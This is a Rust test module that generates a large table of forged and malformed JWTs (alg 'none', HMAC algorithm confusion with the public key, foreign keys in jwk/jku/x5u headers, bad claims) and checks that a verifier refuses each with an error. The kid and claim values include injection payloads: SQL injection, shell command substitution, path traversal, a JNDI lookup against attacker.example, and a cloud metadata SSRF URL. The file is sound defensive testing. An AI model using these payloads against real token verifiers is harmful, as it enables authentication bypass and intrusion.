//! A table of forged, broken and misused tokens, for tests: every one must be refused with 401.

use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD, Engine as _};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Number, Value, json};

use super::keys::{KeyError, SigningKey, StoredKey};
use super::token::sign;

/// One token that must be refused.
#[derive(Clone, Debug)]
pub struct Attack {
    /// The name of the attack.
    pub name: String,
    /// The token.
    pub token: String,
}

/// All attacks, made from claims that would be valid and the key that really signs.
///
/// # Errors
/// When a key cannot be made or used.
pub fn attack_tokens(valid: &Value, key: &SigningKey) -> Result<Vec<Attack>, KeyError> {
    let mut attacks = structures(valid, key)?;
    attacks.extend(algorithms(valid, key)?);
    attacks.extend(headers(valid, key)?);
    attacks.extend(claims(valid, key)?);
    Ok(attacks.into_iter().map(|(name, token)| Attack { name, token }).collect())
}

type Named = Vec<(String, String)>;

fn header(key: &SigningKey) -> Value {
    json!({"typ": "at+jwt", "alg": "EdDSA", "kid": key.kid()})
}

fn b64(text: &str) -> String {
    BASE64_URL_SAFE_NO_PAD.encode(text)
}

fn with(object: &Value, field: &str, value: Value) -> Value {
    let mut changed = object.clone();
    changed[field] = value;
    changed
}

fn without(object: &Value, field: &str) -> Value {
    let mut changed = object.clone();
    if let Value::Object(fields) = &mut changed {
        fields.remove(field);
    }
    changed
}

/// Signs raw texts, so that header or payload need not be JSON.
fn sign_raw(header: &str, payload: &str, key: &SigningKey) -> Result<String, KeyError> {
    let message = format!("{}.{}", b64(header), b64(payload));
    Ok(format!("{message}.{}", key.sign(message.as_bytes())?))
}

fn structures(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
    let good = sign(&header(key), valid, key)?;
    let parts: Vec<&str> = good.split('.').collect();
    let (head, body, tail) = (parts[0], parts[1], parts[2]);
    let padded = |text: &str| format!("{text}{}", "=".repeat((4 - text.len() % 4) % 4));
    let flipped = {
        let last = if body.ends_with('A') { "B" } else { "A" };
        format!("{}{last}", &body[..body.len() - 1])
    };
    // The last character of a 64-byte signature carries four unused bits: another spelling of the same bytes.
    let malleable = {
        let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let at = tail.chars().last().and_then(|c| alphabet.find(c)).unwrap_or(0);
        let next = alphabet.chars().nth(at | 1).unwrap_or('B');
        format!("{}{next}", &tail[..tail.len() - 1])
    };
    let text = valid.to_string();
    let head_text = header(key).to_string();
    let mut named: Named = [
        ("dots only", "..".to_owned()),
        ("one part", head.to_owned()),
        ("two parts", format!("{head}.{body}")),
        ("empty signature", format!("{head}.{body}.")),
        ("empty payload", format!("{head}..{tail}")),
        ("empty header", format!(".{body}.{tail}")),
        ("four parts", format!("{good}.{tail}")),
        ("five parts, as if encrypted", format!("{good}.{tail}.{tail}")),
        ("trailing dot", format!("{good}.")),
        ("padded signature", format!("{head}.{body}.{}", padded(tail))),
        ("padded parts", format!("{head}=.{body}=.{tail}=")),
        (
            "standard base64",
            format!(
                "{}.{}.{tail}",
                BASE64_STANDARD.encode(&head_text),
                BASE64_STANDARD.encode(format!("{text}???>>>"))
            ),
        ),
        ("blank inside", format!("{head}. {body}.{tail}")),
        ("line break inside", format!("{head}.{body}\n.{tail}")),
        ("null byte", format!("{head}.{body}.{tail}\0")),
        ("quotes around", format!("\"{good}\"")),
        ("letters beyond ASCII", format!("{head}.{body}.é{tail}")),
        ("payload changed", format!("{head}.{flipped}.{tail}")),
        ("signature respelled", format!("{head}.{body}.{malleable}")),
        ("signature cut", format!("{head}.{body}.{}", &tail[..tail.len() - 4])),
        ("signature of zeros", format!("{head}.{body}.{}", BASE64_URL_SAFE_NO_PAD.encode([0; 64]))),
        ("signature of one byte", format!("{head}.{body}.AA")),
        ("signature twice", format!("{head}.{body}.{tail}{tail}")),
        ("parts swapped", format!("{body}.{head}.{tail}")),
        ("100 KB", format!("{head}.{}.{tail}", "A".repeat(100_000))),
        ("100 KB of dots", ".".repeat(100_000)),
        ("JSON serialisation", json!({"protected": head, "payload": body, "signature": tail}).to_string()),
    ]
    .into_iter()
    .map(|(name, token)| (name.to_owned(), token))
    .collect();

    let deep = format!("{}1{}", r#"{"a":"#.repeat(500), "}".repeat(500));
    let with_deep = format!(r#"{},"deep":{deep}}}"#, &text[..text.len() - 1]);
    let twice = |claim: &str, value: &str| format!(r#"{},"{claim}":{value}}}"#, &text[..text.len() - 1]);
    for (name, payload) in [
        ("payload no JSON", "not json".to_owned()),
        ("payload a list", format!("[{text}]")),
        ("payload a text", format!("{text:?}")),
        ("payload null", "null".to_owned()),
        ("payload empty object", "{}".to_owned()),
        ("payload goes on", format!("{text}{text}")),
        ("payload with a byte order mark", format!("\u{feff}{text}")),
        ("payload not finished", text[..text.len() - 1].to_owned()),
        ("payload deep", with_deep),
        ("payload of brackets", "[".repeat(5_000)),
        ("sub twice", twice("sub", r#""prn_00000000000000000000000000""#)),
        ("exp twice", twice("exp", "99999999999")),
        ("exp twice, escaped", twice("e\\u0078p", "99999999999")),
    ] {
        named.push((name.to_owned(), sign_raw(&head_text, &payload, key)?));
    }
    for (name, head) in [
        ("header no JSON", "not json".to_owned()),
        ("header a list", format!("[{head_text}]")),
        ("header goes on", format!("{head_text} x")),
        ("header alg twice", format!(r#"{},"alg":"none"}}"#, &head_text[..head_text.len() - 1])),
        ("header deep", format!(r#"{},"deep":{deep}}}"#, &head_text[..head_text.len() - 1])),
    ] {
        named.push((name.to_owned(), sign_raw(&head, &text, key)?));
    }
    Ok(named)
}

fn algorithms(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
    let mut named = Named::new();
    let body = b64(&valid.to_string());
    for none in ["none", "None", "NONE", "nOnE", "", " none", "none\0", "NULL"] {
        let head = b64(&with(&header(key), "alg", none.into()).to_string());
        named.push((format!("alg {none:?}, no signature"), format!("{head}.{body}.")));
        named.push((format!("alg {none:?}, some signature"), format!("{head}.{body}.AAAA")));
        named
            .push((format!("alg {none:?}, really signed"), sign(&with(&header(key), "alg", none.into()), valid, key)?));
    }
    for other in
        ["EDDSA", "eddsa", "Ed25519", "Ed448", "RS256", "ES256", "ES256K", "PS256", "HS256", "HS512", "A128KW", "dir"]
    {
        named.push((
            format!("alg {other}, signed with Ed25519"),
            sign(&with(&header(key), "alg", other.into()), valid, key)?,
        ));
    }
    for value in [json!(null), json!(0), json!(true), json!(["EdDSA"]), json!({"alg": "EdDSA"})] {
        named.push((format!("alg {value}"), sign(&with(&header(key), "alg", value), valid, key)?));
    }
    named.push(("alg missing".to_owned(), sign(&without(&header(key), "alg"), valid, key)?));

    // Algorithm confusion: the public key, in every spelling, as an HMAC secret.
    let x = BASE64_URL_SAFE_NO_PAD.encode(key.public());
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": x}).to_string();
    let spki =
        [[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00].as_slice(), key.public()].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", BASE64_STANDARD.encode(&spki));
    for (spelling, secret) in [
        ("bytes", key.public()),
        ("base64url", x.as_bytes()),
        ("JWK", jwk.as_bytes()),
        ("DER", &spki),
        ("PEM", pem.as_bytes()),
        ("nothing", b"".as_slice()),
        ("kid", key.kid().as_bytes()),
    ] {
        let message = format!("{}.{body}", b64(&with(&header(key), "alg", "HS256".into()).to_string()));
        let signature =
            jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256)
                .map_err(|_| KeyError::Sign { kid: "HS256".to_owned() })?;
        named.push((format!("HS256 with the public key as {spelling}"), format!("{message}.{signature}")));
    }
    Ok(named)
}

fn headers(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
    let mut named = Named::new();
    let stranger = SigningKey::read(&StoredKey::generate(key.signs_from())?)?;
    let jwk = {
        let x = BASE64_URL_SAFE_NO_PAD.encode(stranger.public());
        json!({"kty": "OKP", "crv": "Ed25519", "kid": stranger.kid(), "x": x})
    };
    named.push(("another key, its own kid".to_owned(), sign(&header(&stranger), valid, &stranger)?));
    named.push(("another key, our kid".to_owned(), sign(&header(key), valid, &stranger)?));
    for (field, value) in [
        ("jwk", jwk),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("x5u", json!("https://attacker.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
    ] {
        for (whose, head) in [("our", header(key)), ("its", header(&stranger)), ("no", without(&header(key), "kid"))] {
            let head = with(&head, field, value.clone());
            named.push((format!("another key in {field}, {whose} kid"), sign(&head, valid, &stranger)?));
        }
    }
    for kid in [
        "",
        ".",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1",
        "x' UNION SELECT 'a' --",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "\0",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "*",
        "null",
        "0",
        "é",
        "\"}, \"alg\": \"none\"",
        "http://169.254.169.254/latest/meta-data",
        "\r\nX-Injected: 1",
    ] {
        named.push((format!("kid {kid:?}"), sign(&with(&header(key), "kid", kid.into()), valid, key)?));
    }
    named.push((
        "kid of 4,000 bytes".to_owned(),
        sign(&with(&header(key), "kid", "k".repeat(4_000).into()), valid, key)?,
    ));
    named.push((
        "kid in capitals".to_owned(),
        sign(&with(&header(key), "kid", key.kid().to_uppercase().into()), valid, key)?,
    ));
    named.push((
        "kid with a blank".to_owned(),
        sign(&with(&header(key), "kid", format!("{} ", key.kid()).into()), valid, key)?,
    ));
    for value in [json!(null), json!(0), json!([key.kid()]), json!({"kid": key.kid()}), json!(true)] {
        named.push((format!("kid {value}"), sign(&with(&header(key), "kid", value), valid, key)?));
    }
    named.push(("kid missing".to_owned(), sign(&without(&header(key), "kid"), valid, key)?));
    for value in [json!([]), json!(["exp"]), json!(["b64"]), json!(null), json!("exp")] {
        named.push((format!("crit {value}"), sign(&with(&header(key), "crit", value), valid, key)?));
    }
    for value in [
        json!("JWE"),
        json!("id_token+jwt"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!(""),
        json!(1),
        json!(null),
        json!(["JWT"]),
    ] {
        named.push((format!("typ {value}"), sign(&with(&header(key), "typ", value), valid, key)?));
    }
    Ok(named)
}

fn claims(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
    let instance = valid["iss"].clone();
    let longest = i64::MAX;
    let fraction = |at: i64, tenths: u8| format!("{at}.{tenths}").parse::<Number>().map_or(Value::Null, Value::Number);
    let strange = |claim: &str| {
        let at = valid[claim].as_i64().unwrap_or(0);
        vec![
            json!(at.to_string()),
            fraction(at, 5),
            fraction(at, 0),
            json!(-at),
            json!(-1),
            json!(longest),
            json!(u64::MAX),
            json!(1e300),
            json!(i64::MIN),
            json!(null),
            json!(true),
            json!([at]),
            json!({"at": at}),
            json!(""),
        ]
    };
    let mut changes: Vec<(&str, Value)> = Vec::new();
    for claim in ["exp", "nbf", "iat"] {
        changes.extend(strange(claim).into_iter().map(|value| (claim, value)));
    }
    let issued = valid["iat"].as_i64().unwrap_or(0);
    changes.extend([
        ("exp", json!(0)),
        ("exp", json!(issued - 86_400)),
        ("nbf", json!(issued + 86_400)),
        ("iat", json!(issued + 86_400)),
        ("aud", json!([instance])),
        ("aud", json!([instance, "other"])),
        ("aud", json!("other")),
        ("aud", json!("")),
        ("aud", json!(null)),
        ("aud", json!(["other"])),
        ("aud", json!([])),
        ("aud", json!({"a": instance})),
        ("aud", json!(true)),
        ("iss", json!("other")),
        ("iss", json!("")),
        ("iss", json!(null)),
        ("iss", json!([instance])),
        ("iss", json!(1)),
        ("iss", json!("https://attacker.example")),
        ("iss", json!("x".repeat(1_000))),
        ("sub", json!("")),
        ("sub", json!(null)),
        ("sub", json!(1)),
        ("sub", json!("admin")),
        ("sub", json!("prn_")),
        ("sub", json!(["a"])),
        ("sub", json!("' OR 1=1 --")),
        ("sub", json!("x".repeat(1_000))),
        ("org", json!("")),
        ("org", json!("*")),
        ("org", json!(null)),
        ("org", json!(["org_01h455vb4pex5vsknk084sn02q"])),
        ("org", json!("acme")),
        ("org", json!("prn_01h455vb4pex5vsknk084sn02q")),
        ("org", json!(1)),
        ("sid", json!("")),
        ("sid", json!(1)),
        ("sid", json!("x")),
        ("sid", json!(null)),
        ("jti", json!("")),
        ("jti", json!(1)),
        ("jti", json!(null)),
        ("scope", json!(["accounts:read"])),
        ("scope", json!(1)),
        ("scope", json!(null)),
    ]);
    let mut named = Named::new();
    for (claim, value) in changes {
        let shown: String = value.to_string().chars().take(60).collect();
        named.push((format!("{claim} {shown}"), sign(&header(key), &with(valid, claim, value), key)?));
    }
    for claim in ["iss", "aud", "sub", "exp", "nbf", "iat", "jti"] {
        named.push((format!("{claim} missing"), sign(&header(key), &without(valid, claim), key)?));
    }
    Ok(named)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use domain::value::Instant;

    use super::*;
    use crate::auth::key_ring::KeyRing;
    use crate::auth::token_error::TokenError;
    use crate::auth::verifier::Verifier;

    fn valid_claims() -> Value {
        json!({
            "iss": "instance", "aud": "instance", "sub": "prn_01h455vb4pex5vsknk084sn02q", "org": "org_01h455vb4pex5vsknk084sn02q",
            "iat": 1_800_000_000, "nbf": 1_800_000_000, "exp": 1_800_000_900, "jti": "abc",
        })
    }

    #[test]
    fn every_change_of_a_single_character_is_refused() {
        let stored = StoredKey::generate(Instant(0)).unwrap();
        let key = SigningKey::read(&stored).unwrap();
        let verifier = Verifier::new("instance".to_owned(), KeyRing::read(&[stored]).unwrap(), Vec::new());
        let good = sign(&header(&key), &valid_claims(), &key).unwrap();
        let now = Instant(1_800_000_000_000_000);
        assert!(verifier.verify(&good, now).is_ok());
        for at in 0..good.len() {
            for new in ["A", "B", "_", ".", "=", " ", "é", ""] {
                let token = format!("{}{new}{}", &good[..at], &good[at + 1..]);
                assert!(token == good || verifier.verify(&token, now).is_err(), "{new:?} at {at}");
            }
        }
    }

    #[test]
    fn every_attack_is_refused_before_and_after_the_good_token_was_cached() {
        let now = Instant(1_800_000_000_000_000);
        let stored = StoredKey::generate(Instant(0)).unwrap();
        let key = SigningKey::read(&stored).unwrap();
        let verifier = Verifier::new("instance".to_owned(), KeyRing::read(&[stored]).unwrap(), Vec::new());
        let valid = valid_claims();
        let good = sign(&header(&key), &valid, &key).unwrap();
        let attacks = attack_tokens(&valid, &key).unwrap();
        assert!(attacks.len() > 200, "{}", attacks.len());
        let mut kinds = BTreeSet::new();
        for _ in 0..2 {
            for attack in &attacks {
                let error = verifier.verify(&attack.token, now).expect_err(&attack.name);
                assert!(
                    error.challenge().bytes().all(|byte| (b' '..=b'~').contains(&byte)),
                    "{}: {error}",
                    attack.name
                );
                kinds.insert(variant(&error));
            }
            assert!(verifier.verify(&good, now).is_ok());
        }
        // The table reaches each check that a token of our own can fail.
        for kind in [
            "TooLong",
            "WrongParts",
            "BadEncoding",
            "BadJson",
            "BadHeader",
            "WrongAlgorithm",
            "UnknownIssuer",
            "UnknownKey",
            "BadSignature",
            "BadClaim",
            "WrongAudience",
            "Expired",
            "NotYetValid",
        ] {
            assert!(kinds.contains(kind), "{kind} was not met: {kinds:?}");
        }
    }

    /// The variant's name, from its Debug text.
    fn variant(error: &TokenError) -> String {
        format!("{error:?}").split([' ', '(', '{']).next().unwrap_or_default().to_owned()
    }
}
